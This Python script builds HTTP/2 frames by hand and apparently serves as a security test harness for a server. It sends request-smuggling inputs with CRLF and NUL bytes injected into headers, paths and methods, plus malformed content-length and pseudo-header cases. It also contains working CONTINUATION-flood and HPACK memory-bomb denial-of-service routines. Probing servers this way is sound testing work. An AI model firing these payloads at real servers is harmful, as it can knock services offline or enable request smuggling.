"""An HTTP/2 client that builds its frames by hand, as no library would.

    frames_peer.py heads HOST:PORT AUTHORITY TOKEN

Sends one request on a connection of its own for each case and prints `case: outcome`, where the outcome is
`status NNN`, `reset ERROR`, `goaway ERROR`, `closed` or `silent`.

    frames_peer.py extended HOST:PORT AUTHORITY TOKEN

Prints whether WebSockets over HTTP/2 are offered (RFC 8441, SETTINGS_ENABLE_CONNECT_PROTOCOL), and what comes of
one that is opened all the same.

    frames_peer.py flood HOST:PORT AUTHORITY TOKEN

The same for a head that never ends.

    frames_peer.py tight HOST:PORT AUTHORITY TOKEN

Lets nothing be sent, asks twenty times, prints the statuses; then when the connection is closed.

    frames_peer.py bomb HOST:PORT AUTHORITY TOKEN CONNECTIONS FIELDS

Lets nothing be sent, and asks on many connections for as much memory as a byte can buy. Prints how many
bytes that took, and holds the connections until its input ends.
"""

import socket
import sys
import time

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    RstStreamFrame,
    SettingsFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ERRORS = {
    0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR", 6: "FRAME_SIZE_ERROR",
    7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM",
}


class Connection:
    def __init__(self, address, window=None):
        host, port = address.rsplit(":", 1)
        self.socket = socket.create_connection((host, int(port)), timeout=20)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.encoder = hpack.Encoder()
        self.decoder = hpack.Decoder()
        self.buffer = b""
        self.sent = 0
        settings = {} if window is None else {SettingsFrame.INITIAL_WINDOW_SIZE: window}
        self.write(PREFACE + SettingsFrame(settings=settings).serialize())

    def write(self, data):
        self.sent += len(data)
        try:
            self.socket.sendall(data)
        except OSError:
            pass

    def frame(self):
        """The next frame; None at the end."""
        while True:
            if len(self.buffer) >= 9:
                frame, length = Frame.parse_frame_header(memoryview(self.buffer[:9]))
                if len(self.buffer) >= 9 + length:
                    frame.parse_body(memoryview(self.buffer[9 : 9 + length]))
                    self.buffer = self.buffer[9 + length :]
                    return frame
            try:
                more = self.socket.recv(65536)
            except socket.timeout:
                raise
            except OSError:
                return None
            if not more:
                return None
            self.buffer += more

    def head(self, headers, stream=1, end=True, huffman=True):
        """A head in as many frames as it takes."""
        block = self.encoder.encode(headers, huffman=huffman)
        return self.block(block, stream, end)

    def block(self, block, stream=1, end=True):
        parts = [block[at : at + 16000] for at in range(0, len(block), 16000)] or [b""]
        frames = []
        for number, part in enumerate(parts):
            frame = ContinuationFrame(stream, data=part) if number else HeadersFrame(stream, data=part)
            if number == 0 and end:
                frame.flags.add("END_STREAM")
            if number == len(parts) - 1:
                frame.flags.add("END_HEADERS")
            frames.append(frame.serialize())
        return b"".join(frames)

    def outcome(self, stream=1):
        try:
            while (frame := self.frame()) is not None:
                if isinstance(frame, HeadersFrame):
                    headers = self.decoder.decode(frame.data)
                    if frame.stream_id == stream:
                        return f"status {dict(headers)[':status']}"
                if isinstance(frame, RstStreamFrame) and frame.stream_id == stream:
                    return f"reset {ERRORS.get(frame.error_code, frame.error_code)}"
                if isinstance(frame, GoAwayFrame):
                    return f"goaway {ERRORS.get(frame.error_code, frame.error_code)}"
                if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                    self.write(SettingsFrame(flags=["ACK"]).serialize())
        except socket.timeout:
            return "silent"
        return "closed"


def request(authority, token, method="GET", path="/page", scheme="http"):
    return [
        (":method", method),
        (":scheme", scheme),
        (":path", path),
        (":authority", authority),
        ("authorization", f"Bearer {token}"),
    ]


def data(payload, end=True):
    frame = DataFrame(1, data=payload)
    if end:
        frame.flags.add("END_STREAM")
    return frame.serialize()


def heads(address, authority, token):
    def ask(case, headers, *more, end=True):
        connection = Connection(address)
        connection.write(connection.head(headers, end=end) + b"".join(more))
        print(f"{case}: {connection.outcome()}", flush=True)
        connection.socket.close()

    def asked(**changes):
        return request(authority, token, **changes)

    post = asked(method="POST")
    ask("sound", asked())
    ask("sound with a body", post + [("content-length", "3")], data(b"abc"), end=False)
    # A18: a body that is not as long as it says.
    ask("a18 short", post + [("content-length", "5")], data(b"abc"), end=False)
    ask("a18 long", post + [("content-length", "2")], data(b"abc"), end=False)
    ask("a18 none", post + [("content-length", "5")])
    for length in ["+3", "3,3", "0x3", "", "-3"]:
        ask(f"a18 {length!r}", post + [("content-length", length)], data(b"abc"), end=False)
    ask("a18 two", post + [("content-length", "3")] * 2, data(b"abc"), end=False)
    # A19: what belongs to one hop of HTTP/1, and bytes that end a line there.
    for name, value in [
        ("transfer-encoding", "chunked"), ("connection", "close"), ("keep-alive", "1"), ("upgrade", "websocket"),
        ("proxy-connection", "close"), ("te", "gzip"), ("X-Upper", "a"), ("x\r\ny", "a"), ("x:y", "a"),
        ("x y", "a"), ("x\0", "a"), ("x", "a\r\nsmuggled: b"), ("x", "a\nb"), ("x", "a\0b"), ("x", "a\rb"),
    ]:
        ask(f"a19 {name!r} {value!r}", asked() + [(name, value)])
    for path in ["/page\r\nsmuggled: b", "/page\n", "/pa\0ge", "/pa ge", "/page HTTP/1.1\r\n\r\n", "/page#x", "page", ""]:
        ask(f"a19 path {path!r}", asked(path=path))
    # B11, E12: what is decided on is what is sent, and a query alone is sent as nothing else.
    for path in ["?", "?x=1", "*", "*?x"]:
        ask(f"b11 path {path!r}", asked(path=path))
    for method in ["GET / HTTP/1.1\r\n\r\n", "GE T", "GET\0", "", "get"]:
        ask(f"a19 method {method!r}", asked(method=method))
    # A20: pseudo-headers where they do not belong, and white space that others trim.
    for value in [" a", "a ", "\ta", "a\t", " "]:
        ask(f"a20 {value!r}", asked() + [("x", value)])
    ask("a20 behind", asked()[:1] + [("x", "a")] + asked()[1:])
    ask("a20 unknown", [(":smuggled", "a")] + asked())
    ask("a20 status", asked()[:4] + [(":status", "200")] + asked()[4:])
    for number, name in enumerate([":method", ":scheme", ":path", ":authority"]):
        ask(f"a20 two {name}", asked()[: number + 1] + asked()[number:])
    for number in range(3):
        ask(f"a20 without {asked()[number][0]}", asked()[:number] + asked()[number + 1 :])
    # A21, B10, B16: one host, one scheme.
    ask("a21 other", asked() + [("host", "vault.example.com")])
    ask("a21 two", asked() + [("host", authority), ("host", "vault.example.com")])
    ask("a21 same", asked() + [("host", authority.upper())])
    for wrong in ["u@" + authority, authority + "/page", authority + ",x", "", "a b"]:
        ask(f"a21 authority {wrong!r}", request(wrong, token))
    for scheme in ["ws", "ftp", "javascript", "", "http\0"]:
        ask(f"b16 {scheme!r}", asked(scheme=scheme))
    for scheme in ["HTTP", "https"]:
        ask(f"sound {scheme}", asked(scheme=scheme))
    # I07, I09: what is free to send is counted all the same.
    ask("i07 nameless", asked() + [("", "a")])
    ask("i07 empty values", asked() + [("x", "")] * 150)
    ask("i07 crumbs", asked() + [("cookie", "a=b")] * 150)
    ask("i07 few crumbs", asked() + [("cookie", "a=b")] * 50)
    ask("i09 fields", asked() + [(f"x-{number}", "y") for number in range(201)])
    ask("i09 large", asked() + [("x", "y" * 128 * 1024)])
    trailers(address, asked(method="POST"))


def trailers(address, post):
    """A20: pseudo-headers in trailers."""
    for name in [":path", ":authority", ":status", ":method"]:
        connection = Connection(address)
        connection.write(connection.head(post, end=False) + data(b"abc", end=False))
        connection.write(connection.head([(name, "/smuggled"), ("x", "y")]))
        print(f"a20 trailers {name}: {connection.outcome()}", flush=True)
        connection.socket.close()


def flood(address, authority, token):
    connection = Connection(address)
    block = connection.encoder.encode(request(authority, token))
    connection.write(HeadersFrame(1, data=block, flags=["END_STREAM"]).serialize())
    part = ContinuationFrame(1, data=b"\x00\x01x\x01y" * 2000).serialize()
    connection.socket.settimeout(0.001)
    for number in range(20_000):
        connection.write(part)
        try:
            connection.socket.recv(1, socket.MSG_PEEK)
            break
        except socket.timeout:
            continue
        except OSError:
            break
    connection.socket.settimeout(20)
    print(f"i05: {connection.outcome()}", flush=True)
    print(f"bytes: {connection.sent}", flush=True)


def extended(address, authority, token):
    connection = Connection(address)
    while not isinstance(frame := connection.frame(), SettingsFrame) or "ACK" in frame.flags:
        pass
    print(f"offered: {'yes' if frame.settings.get(0x8) else 'no'}", flush=True)
    connection.write(SettingsFrame(flags=["ACK"]).serialize())
    asked = request(authority, token, method="CONNECT", path="/echo")
    websocket = [(":protocol", "websocket"), ("sec-websocket-version", "13"), ("origin", f"http://{authority}")]
    connection.write(connection.head(asked[:4] + websocket[:1] + asked[4:] + websocket[1:], end=False))
    print(f"extended: {connection.outcome()}", flush=True)


def tight(address, authority, token):
    connection = Connection(address, window=0)
    for number in range(20):
        connection.write(connection.head(request(authority, token), stream=2 * number + 1))
    statuses = {}
    started = time.monotonic()
    connection.socket.settimeout(120)
    told = False
    while (frame := connection.frame()) is not None:
        if isinstance(frame, HeadersFrame):
            status = dict(connection.decoder.decode(frame.data))[":status"]
            ended = "ended" if "END_STREAM" in frame.flags else "open"
            statuses[frame.stream_id] = f"{status} {ended}"
        if isinstance(frame, DataFrame) and frame.data:
            print("data: it was let send nothing", flush=True)
        if len(statuses) == 20 and not told:
            told = True
            for outcome in sorted(set(statuses.values())):
                print(f"{outcome}: {list(statuses.values()).count(outcome)}", flush=True)
    print(f"closed: {time.monotonic() - started:.0f}", flush=True)


def bomb(address, authority, token, connections, fields):
    held, sent = [], 0
    for _ in range(int(connections)):
        connection = Connection(address, window=0)
        first = connection.encoder.encode(request(authority, token) + [("a", "")])
        # The newest entry of the dynamic table, one byte for each field.
        block = connection.encoder.encode(request(authority, token)) + b"\xbe" * int(fields)
        data = connection.block(first, stream=1)
        data += b"".join(connection.block(block, stream=2 * number + 3) for number in range(99))
        connection.write(data)
        held.append(connection)
    for connection in held:
        connection.socket.settimeout(0.2)
        try:
            while connection.frame() is not None:
                pass
        except socket.timeout:
            pass
    sent = sum(connection.sent for connection in held)
    print(f"bytes: {sent}", flush=True)
    sys.stdin.read()


if __name__ == "__main__":
    {"heads": heads, "extended": extended, "flood": flood, "tight": tight, "bomb": bomb}[sys.argv[1]](*sys.argv[2:])
